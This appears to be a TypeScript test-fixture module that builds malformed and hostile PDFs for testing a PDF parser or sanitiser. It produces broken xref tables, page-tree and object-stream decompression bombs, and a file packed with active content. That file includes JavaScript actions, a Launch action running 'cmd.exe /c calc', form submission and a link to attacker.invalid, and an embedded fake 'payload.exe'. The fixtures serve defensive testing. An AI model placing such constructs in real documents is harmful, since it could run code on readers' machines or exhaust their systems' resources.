// Hostile and damaged PDFs written object by object in a few lines of PDF syntax, so each test
// says exactly what the file holds (pdf-lib would normalise away the damage we want to test).
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { deflateSync } from 'node:zlib';

/** A stream object: its dictionary entries (without /Length) and its raw (already filtered) data. */
export interface PdfStream {
  dict: string;
  data: Uint8Array;
}
export type PdfObject = string | PdfStream;

export interface PdfWriteOptions {
  /** Object number of the catalog (default 1). */
  root?: number;
  /**
   * `wrong-offsets`: every xref offset off by 7 bytes; `missing`: no xref table or startxref;
   * `no-root`: a trailer without /Root; `dangling-root`: /Root names an object the file lacks;
   * `unterminated-trailer`: the trailer dictionary ends with the file, without `>>` or startxref.
   */
  damage?: 'wrong-offsets' | 'missing' | 'no-root' | 'dangling-root' | 'unterminated-trailer';
  /** Bytes before `%PDF-` (readers look for the header in the first kilobyte). */
  junkBefore?: Uint8Array;
}

export function stream(dict: string, data: Uint8Array | string): PdfStream {
  return { dict, data: typeof data === 'string' ? Buffer.from(data, 'latin1') : data };
}

export function deflatedStream(dict: string, data: Uint8Array | string): PdfStream {
  const raw = typeof data === 'string' ? Buffer.from(data, 'latin1') : data;
  return stream(`${dict} /Filter /FlateDecode`, deflateSync(raw, { level: 9 }));
}

/** Writes objects 1..n (index 0 is object 1) with a classic xref table. */
export function writePdf(objects: readonly PdfObject[], options: PdfWriteOptions = {}): Uint8Array {
  const junk = Buffer.from(options.junkBefore ?? []);
  const parts: Buffer[] = [junk, Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  // Offsets count from the header, as the writers that prepend junk leave them.
  let length = parts[1]!.length;
  const offsets: number[] = [];
  const push = (part: Buffer) => {
    parts.push(part);
    length += part.length;
  };
  objects.forEach((object, index) => {
    offsets.push(length);
    if (typeof object === 'string') {
      push(Buffer.from(`${index + 1} 0 obj\n${object}\nendobj\n`, 'latin1'));
    } else {
      push(
        Buffer.from(
          `${index + 1} 0 obj\n<< ${object.dict} /Length ${object.data.length} >>\nstream\n`,
          'latin1',
        ),
      );
      push(Buffer.from(object.data));
      push(Buffer.from('\nendstream\nendobj\n', 'latin1'));
    }
  });
  const root =
    {
      'no-root': '',
      'dangling-root': ` /Root ${objects.length + 5} 0 R`,
    }[options.damage as string] ?? ` /Root ${options.root ?? 1} 0 R`;
  const trailer = `trailer\n<< /Size ${objects.length + 1}${root} >>\n`;
  if (options.damage === 'missing') {
    push(Buffer.from(`${trailer}%%EOF\n`, 'latin1'));
    return Buffer.concat(parts);
  }
  const shift = options.damage === 'wrong-offsets' ? 7 : 0;
  const xrefAt = length;
  const rows = offsets.map((o) => `${String(o + shift).padStart(10, '0')} 00000 n \n`).join('');
  const table = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows}`;
  if (options.damage === 'unterminated-trailer') {
    push(Buffer.from(`${table}${trailer.slice(0, -4)}\n`, 'latin1'));
    return Buffer.concat(parts);
  }
  push(Buffer.from(`${table}${trailer}startxref\n${xrefAt}\n%%EOF\n`, 'latin1'));
  return Buffer.concat(parts);
}

const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';

/** Content that writes `lines` in Helvetica 14 from the top of a Letter page. */
function textContent(lines: readonly string[]): string {
  const escaped = lines.map((l) => `(${l.replace(/[()\\]/g, '\\$&')}) Tj T*`).join(' ');
  return `BT /F1 14 Tf 16 TL 72 720 Td ${escaped} ET`;
}

/** A one-page PDF with text, as objects: 1 catalog, 2 pages, 3 page, 4 content, 5 font. */
export function textPdfObjects(lines: readonly string[]): PdfObject[] {
  return [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>',
    deflatedStream('', textContent(lines)),
    FONT,
  ];
}

export function buildTextPdf(lines: readonly string[], options: PdfWriteOptions = {}): Uint8Array {
  return writePdf(textPdfObjects(lines), options);
}

/** `pages` pages, each saying "Page n of this statement". */
export function buildManyPagePdf(pages: number): Uint8Array {
  const objects: PdfObject[] = ['<< /Type /Catalog /Pages 2 0 R >>', '', FONT];
  const kids: string[] = [];
  for (let i = 0; i < pages; i++) {
    const page = objects.length + 1;
    kids.push(`${page} 0 R`);
    objects.push(
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 3 0 R >> >> /Contents ${page + 1} 0 R >>`,
      stream('', textContent([`Page ${i + 1} of this statement`])),
    );
  }
  objects[1] = `<< /Type /Pages /Kids [${kids.join(' ')}] /Count ${pages} >>`;
  return writePdf(objects);
}

/**
 * A page tree whose 200 intermediate nodes each list the same page 200 times: 40,000 page
 * references to one page object, a few hundred kilobytes.
 */
export function buildPageTreeBombPdf(options: PdfWriteOptions = {}): Uint8Array {
  const nodes = 200;
  const perNode = 200;
  const pageNumber = 3 + nodes + 1;
  const objects: PdfObject[] = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Kids [${Array.from({ length: nodes }, (_, i) => `${3 + i} 0 R`).join(' ')}] /Count ${nodes * perNode} >>`,
  ];
  const kids = Array(perNode).fill(`${pageNumber} 0 R`).join(' ');
  for (let i = 0; i < nodes; i++) {
    objects.push(`<< /Type /Pages /Parent 2 0 R /Kids [${kids}] /Count ${perNode} >>`);
  }
  objects.push(FONT);
  objects.push(
    `<< /Type /Page /Parent 3 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 ${pageNumber - 1} 0 R >> >> /Contents ${pageNumber + 1} 0 R >>`,
    stream('', textContent(['One page, forty thousand times'])),
  );
  return writePdf(objects, options);
}

/**
 * An object stream that inflates to `inflatedMegabytes` MB, holding the page tree: a parser must
 * inflate it to find the pages. `fill`: `spaces` pads after the real objects (a parser skips
 * them), `string` and `array` make the padding one huge object a parser must read whole.
 */
export function buildObjectStreamBombPdf(
  inflatedMegabytes = 200,
  fill: 'spaces' | 'string' | 'array' = 'spaces',
): Uint8Array {
  const inner = [
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>',
  ];
  const size = inflatedMegabytes * 1024 * 1024;
  if (fill === 'string') inner.push(`(${'A'.repeat(size - 8)})`);
  if (fill === 'array') inner.push(`[${'0 '.repeat(size / 2 - 8)}]`);
  let header = '';
  let body = '';
  inner.forEach((object, i) => {
    header += `${i < 2 ? 2 + i : 7} ${body.length} `;
    body += `${object}\n`;
  });
  const head = Buffer.from(header + body, 'latin1');
  const data = Buffer.alloc(Math.max(head.length, inflatedMegabytes * 1024 * 1024), 0x20);
  head.copy(data);
  const objStm = stream(
    `/Type /ObjStm /N ${inner.length} /First ${header.length} /Filter /FlateDecode`,
    deflateSync(data, { level: 9 }),
  );
  // A cross-reference stream: objects 2 and 3 live in object stream 6.
  const objects: PdfObject[] = [
    // qpdf writes only what is referenced, so the array hangs off the catalog.
    `<< /Type /Catalog /Pages 2 0 R${fill === 'spaces' ? '' : ' /PieceInfo 7 0 R'} >>`,
    'null',
    'null',
    deflatedStream('', textContent(['Inside an object stream'])),
    FONT,
    objStm,
    'null',
  ];
  const inObjectStream: Record<number, [number, number]> = { 2: [6, 0], 3: [6, 1] };
  if (fill !== 'spaces') inObjectStream[7] = [6, 2];
  return writeWithXrefStream(objects, inObjectStream);
}

/** Like writePdf, with a cross-reference stream; `compressed` maps object → [stream, index]. */
function writeWithXrefStream(
  objects: readonly PdfObject[],
  compressed: Record<number, [number, number]>,
): Uint8Array {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  let length = parts[0]!.length;
  const offsets: number[] = [];
  const push = (part: Buffer) => {
    parts.push(part);
    length += part.length;
  };
  objects.forEach((object, index) => {
    offsets.push(length);
    if (compressed[index + 1]) return;
    if (typeof object === 'string') {
      push(Buffer.from(`${index + 1} 0 obj\n${object}\nendobj\n`, 'latin1'));
    } else {
      push(
        Buffer.from(
          `${index + 1} 0 obj\n<< ${object.dict} /Length ${object.data.length} >>\nstream\n`,
          'latin1',
        ),
      );
      push(Buffer.from(object.data));
      push(Buffer.from('\nendstream\nendobj\n', 'latin1'));
    }
  });
  const xrefNumber = objects.length + 1;
  const rows = Buffer.alloc((objects.length + 2) * 7);
  rows.writeUInt8(0, 0);
  rows.writeUInt32BE(0, 1);
  rows.writeUInt16BE(65535, 5);
  objects.forEach((_, index) => {
    const at = (index + 1) * 7;
    const inStream = compressed[index + 1];
    if (inStream) {
      rows.writeUInt8(2, at);
      rows.writeUInt32BE(inStream[0], at + 1);
      rows.writeUInt16BE(inStream[1], at + 5);
    } else {
      rows.writeUInt8(1, at);
      rows.writeUInt32BE(offsets[index]!, at + 1);
      rows.writeUInt16BE(0, at + 5);
    }
  });
  const xrefAt = length;
  const self = xrefNumber * 7;
  rows.writeUInt8(1, self);
  rows.writeUInt32BE(xrefAt, self + 1);
  rows.writeUInt16BE(0, self + 5);
  push(
    Buffer.from(
      `${xrefNumber} 0 obj\n<< /Type /XRef /Size ${xrefNumber + 1} /W [1 4 2] /Root 1 0 R /Length ${rows.length} >>\nstream\n`,
      'latin1',
    ),
  );
  push(rows);
  push(Buffer.from(`\nendstream\nendobj\nstartxref\n${xrefAt}\n%%EOF\n`, 'latin1'));
  return Buffer.concat(parts);
}

/** A page showing one `width`×`height` 8-bit grey image XObject of deflated zeros. */
export function buildLargeImagePdf(width: number, height: number): Uint8Array {
  return writePdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /XObject << /Im1 5 0 R >> >> /Contents 4 0 R >>',
    stream('', 'q 540 0 0 540 36 126 cm /Im1 Do Q'),
    stream(
      `/Type /XObject /Subtype /Image /Width ${width} /Height ${height} /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode`,
      deflateSync(Buffer.alloc(width * height), { level: 9 }),
    ),
  ]);
}

/** One page of `width`×`height` points with text on it. */
export function buildPageSizePdf(width: number, height: number): Uint8Array {
  return writePdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Kids [3 0 R] /Count 1 /MediaBox [0 0 ${width} ${height}] >>`,
    '<< /Type /Page /Parent 2 0 R /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>',
    stream('', 'BT /F1 14 Tf 20 20 Td (A very large page) Tj ET'),
    FONT,
  ]);
}

/**
 * Everything active a PDF can carry, on a page whose visible text must survive: document
 * JavaScript (Names and OpenAction), catalog and page /AA, a Launch link, a URI link, a JavaScript
 * link, a SubmitForm widget, a file attachment (annotation and Names/EmbeddedFiles), XFA, and a
 * filled text field whose appearance reads "Field value Ada".
 */
export function buildActivePdf(options: PdfWriteOptions = {}): Uint8Array {
  const js = (code: string) => `<< /Type /Action /S /JavaScript /JS (${code}) >>`;
  return writePdf(
    [
      /* 1 */ `<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC ${js('app.alert(2)')} >> /Names << /JavaScript 7 0 R /EmbeddedFiles 9 0 R >> /AcroForm << /Fields [13 0 R] /XFA 16 0 R /NeedAppearances false >> >>`,
      /* 2 */ '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      /* 3 */ `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R /AA << /O ${js('app.alert(3)')} >> /Annots [10 0 R 11 0 R 12 0 R 13 0 R 14 0 R 15 0 R] >>`,
      /* 4 */ stream('', textContent(['Visible statement text stays'])),
      /* 5 */ FONT,
      /* 6 */ js('app.alert(1)'),
      /* 7 */ `<< /Names [(init) ${js('app.alert(4)')}] >>`,
      /* 8 */ stream('/Type /EmbeddedFile', 'MZ pretend executable'),
      /* 9 */ '<< /Names [(payload.exe) << /Type /Filespec /F (payload.exe) /UF (payload.exe) /EF << /F 8 0 R >> >>] >>',
      /* 10 */ '<< /Type /Annot /Subtype /Link /Rect [72 600 300 620] /Border [0 0 0] /A << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> >>',
      /* 11 */ '<< /Type /Annot /Subtype /Link /Rect [72 570 300 590] /Border [0 0 0] /A << /S /URI /URI (http://attacker.invalid/track) >> >>',
      /* 12 */ `<< /Type /Annot /Subtype /Link /Rect [72 540 300 560] /Border [0 0 0] /A ${js('app.alert(5)')} >>`,
      /* 13 */ '<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (Field value Ada) /Rect [72 480 300 500] /P 3 0 R /F 4 /AP << /N 17 0 R >> /AA << /K << /S /JavaScript /JS (app.alert(6)) >> >> >>',
      /* 14 */ '<< /Type /Annot /Subtype /FileAttachment /Rect [72 440 90 460] /FS << /Type /Filespec /F (note.exe) /EF << /F 8 0 R >> >> >>',
      /* 15 */ '<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (send) /Rect [72 400 150 420] /P 3 0 R /A << /S /SubmitForm /F << /FS /URL /F (http://attacker.invalid/submit) >> >> >>',
      /* 16 */ stream('', '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template/></xdp:xdp>'),
      /* 17 */ stream(
        '/Type /XObject /Subtype /Form /BBox [0 0 228 20] /Resources << /Font << /F1 5 0 R >> >>',
        '/Tx BMC BT /F1 12 Tf 2 5 Td (Field value Ada) Tj ET EMC',
      ),
    ],
    options,
  );
}

/** `pdf` encrypted by qpdf (AES-256) with this user password ('' opens without one). */
export function encryptWithQpdf(pdf: Uint8Array, userPassword: string): Uint8Array {
  const dir = mkdtempSync(path.join(os.tmpdir(), 'pdf-builder-'));
  try {
    writeFileSync(path.join(dir, 'in.pdf'), pdf);
    execFileSync(
      'qpdf',
      [
        '--encrypt',
        userPassword,
        'owner-secret',
        '256',
        '--print=none',
        '--modify=none',
        '--extract=n',
        '--',
        'in.pdf',
        'out.pdf',
      ],
      { cwd: dir },
    );
    return readFileSync(path.join(dir, 'out.pdf'));
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

/** Colours of the optional-content page: what must show and what its author hid. */
export const LAYER_COLOURS = {
  visible: [0, 0, 255],
  hiddenSection: [255, 0, 0],
  hiddenImage: [0, 200, 0],
  hiddenByMembership: [255, 0, 255],
} as const;

/**
 * A page with layers (optional content), as a design tool or a scanner's OCR layer writes them: a
 * blue square in an ON layer; a red square in a marked-content section of a layer the default
 * configuration turns OFF; a green image XObject with its own /OC naming that layer; a magenta
 * square behind a membership dictionary (/OCMD, AllOn of an ON and the OFF layer); a red square
 * annotation (no appearance) in the OFF layer; text in no layer.
 */
export function buildOptionalContentPdf(): Uint8Array {
  const rgb = (colour: readonly number[]) => colour.map((c) => (c / 255).toFixed(3)).join(' ');
  const square = (colour: readonly number[], x: number) =>
    `${rgb(colour)} rg ${x} 500 100 100 re f`;
  const content = [
    'BT /F1 14 Tf 72 720 Td (Layered statement) Tj ET',
    `/OC /On BDC ${square(LAYER_COLOURS.visible, 72)} EMC`,
    `/OC /Off BDC q ${square(LAYER_COLOURS.hiddenSection, 200)} Q BT /F1 14 Tf 200 650 Td (Draft note) Tj ET EMC`,
    'q 100 0 0 100 330 500 cm /Im1 Do Q',
    `/OC /Both BDC ${square(LAYER_COLOURS.hiddenByMembership, 460)} EMC`,
  ].join('\n');
  const pixels = Buffer.alloc(8 * 8 * 3);
  for (let i = 0; i < pixels.length; i += 3) pixels.set(LAYER_COLOURS.hiddenImage, i);
  return writePdf([
    /* 1 */ '<< /Type /Catalog /Pages 2 0 R /OCProperties << /OCGs [6 0 R 7 0 R] /D << /Order [6 0 R 7 0 R] /ON [6 0 R] /OFF [7 0 R] >> >> >>',
    /* 2 */ '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    /* 3 */ '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> /XObject << /Im1 8 0 R >> /Properties << /On 6 0 R /Off 7 0 R /Both 9 0 R >> >> /Contents 4 0 R /Annots [10 0 R] >>',
    /* 4 */ deflatedStream('', content),
    /* 5 */ FONT,
    /* 6 */ '<< /Type /OCG /Name (Shown) >>',
    /* 7 */ '<< /Type /OCG /Name (Hidden by its author) >>',
    /* 8 */ deflatedStream(
      '/Type /XObject /Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceRGB /BitsPerComponent 8 /OC 7 0 R',
      pixels,
    ),
    /* 9 */ '<< /Type /OCMD /OCGs [6 0 R 7 0 R] /P /AllOn >>',
    /* 10 */ '<< /Type /Annot /Subtype /Square /Rect [200 300 300 400] /F 4 /C [1 0 0] /IC [1 0 0] /OC 7 0 R >>',
  ]);
}

/** A mark an annotation puts on the annotated page: where, and in which colour. */
export interface AnnotationMark {
  subtype: string;
  rect: [number, number, number, number];
  colour: [number, number, number];
}

/** The annotations of buildAnnotatedPdf, none with a stored appearance. */
export const ANNOTATION_MARKS: readonly AnnotationMark[] = [
  { subtype: 'Highlight', rect: [70, 700, 300, 722], colour: [255, 255, 0] },
  { subtype: 'Underline', rect: [70, 660, 300, 682], colour: [0, 0, 255] },
  { subtype: 'StrikeOut', rect: [70, 620, 300, 642], colour: [255, 0, 0] },
  { subtype: 'Square', rect: [72, 420, 172, 520], colour: [0, 128, 0] },
  { subtype: 'Circle', rect: [200, 420, 300, 520], colour: [255, 0, 255] },
  { subtype: 'Polygon', rect: [330, 420, 430, 520], colour: [0, 160, 160] },
  { subtype: 'Ink', rect: [450, 420, 560, 540], colour: [255, 0, 0] },
  { subtype: 'FreeText', rect: [72, 330, 300, 380], colour: [255, 204, 0] },
  { subtype: 'Text', rect: [400, 340, 420, 360], colour: [255, 255, 0] },
];

/**
 * A page of text marked up by an applicant's reviewer in a viewer that stores no appearances:
 * every annotation of ANNOTATION_MARKS, and a list box (no appearance, NeedAppearances unset)
 * whose selected option is "Chemistry".
 */
export function buildAnnotatedPdf(): Uint8Array {
  const lines = [
    'Highlighted sentence of the statement',
    'Underlined sentence here',
    'Struck out sentence here',
  ];
  const content = `BT /F1 14 Tf 72 705 Td ${lines.map((l) => `(${l}) Tj 0 -40 Td`).join(' ')} ET`;
  const annots = ANNOTATION_MARKS.map(({ subtype, rect, colour }) => {
    const [x0, y0, x1, y1] = rect;
    const c = `/C [${colour.map((v) => v / 255).join(' ')}]`;
    const base = `/Type /Annot /Subtype /${subtype} /Rect [${rect.join(' ')}] /F 4 ${c}`;
    const extra: Record<string, string> = {
      Highlight: `/QuadPoints [${x0} ${y1} ${x1} ${y1} ${x0} ${y0} ${x1} ${y0}]`,
      Underline: `/QuadPoints [${x0} ${y1} ${x1} ${y1} ${x0} ${y0} ${x1} ${y0}]`,
      StrikeOut: `/QuadPoints [${x0} ${y1} ${x1} ${y1} ${x0} ${y0} ${x1} ${y0}]`,
      Square: '/BS << /W 4 >>',
      Circle: '/BS << /W 4 >>',
      Polygon: `/BS << /W 4 >> /Vertices [${x0 + 5} ${y0 + 5} ${x1 - 5} ${y0 + 5} ${(x0 + x1) / 2} ${y1 - 5}]`,
      Ink: `/BS << /W 5 >> /InkList [[${x0 + 5} ${y0 + 5} ${(x0 + x1) / 2} ${y1 - 5} ${x1 - 5} ${y0 + 5}]]`,
      FreeText: '/DA (0 0 1 rg /Helv 14 Tf) /Contents (Reviewer: see page 2) /BS << /W 2 >>',
      Text: '/Contents (A sticky note) /Name /Note',
    };
    return `<< ${base} ${extra[subtype] ?? ''} >>`;
  });
  const first = 7;
  const listBox = first + annots.length;
  return writePdf([
    /* 1 */ `<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [${listBox} 0 R] /DA (/Helv 0 Tf 0 g) /DR << /Font << /Helv 6 0 R >> >> >> >>`,
    /* 2 */ '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    /* 3 */ `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R /Annots [${[...annots.keys(), annots.length].map((i) => `${first + i} 0 R`).join(' ')}] >>`,
    /* 4 */ stream('', content),
    /* 5 */ FONT,
    /* 6 */ '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
    ...annots,
    `<< /Type /Annot /Subtype /Widget /FT /Ch /T (subject) /Opt [(Physics) (Chemistry) (Biology)] /V (Chemistry) /Rect [72 150 272 210] /F 4 /DA (/Helv 12 Tf 0 g) /P 3 0 R >>`,
  ]);
}
